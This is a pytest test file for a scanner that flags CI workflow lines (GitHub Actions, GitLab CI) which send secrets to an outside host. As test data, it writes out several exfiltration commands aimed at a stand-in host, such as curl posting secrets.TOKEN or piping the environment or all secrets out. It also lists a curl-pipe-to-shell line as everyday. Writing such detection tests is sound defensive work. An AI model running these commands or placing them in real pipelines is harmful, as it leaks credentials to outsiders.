"""Claims about settings of continuous integration that send secrets away."""

from __future__ import annotations

import pytest

from chrono.scan.follow.workflows import is_workflow, sending_lines

URL = "https://host.example"


@pytest.mark.parametrize(
    "line",
    [
        f'run: curl -d "${{{{ secrets.TOKEN }}}}" {URL}',
        f"run: curl {URL}/?t=${{{{ secrets.TOKEN }}}}",
        f"- env | curl -d @- {URL}",
        f'- curl --data "$CI_JOB_TOKEN" {URL}',
        f'run: echo "${{{{ toJSON(secrets) }}}}" | curl -d @- {URL}',
        f"env:\n  T: ${{{{ secrets.KEY }}}}\nrun: curl {URL}/?t=$T",
    ],
)
def test_secrets_that_are_sent_are_seen(line: str) -> None:
    assert list(sending_lines(line))


@pytest.mark.parametrize(
    "line",
    [
        f'run: curl -H "Authorization: Bearer ${{{{ secrets.TOKEN }}}}" {URL}',
        "run: curl -d hello ${{ secrets.SLACK_WEBHOOK }}",
        "run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}",
        f"run: curl -sSL {URL} | sh",
        "run: env | sort",
    ],
)
def test_a_token_for_the_service_that_is_asked_is_everyday(line: str) -> None:
    assert not list(sending_lines(line))


def test_jobs_lie_where_a_service_looks_for_them() -> None:
    assert is_workflow("/p/.github/workflows/ci.yml")
    assert is_workflow("/p/.gitlab-ci.yml")
    assert not is_workflow("/p/docs/ci.yml")
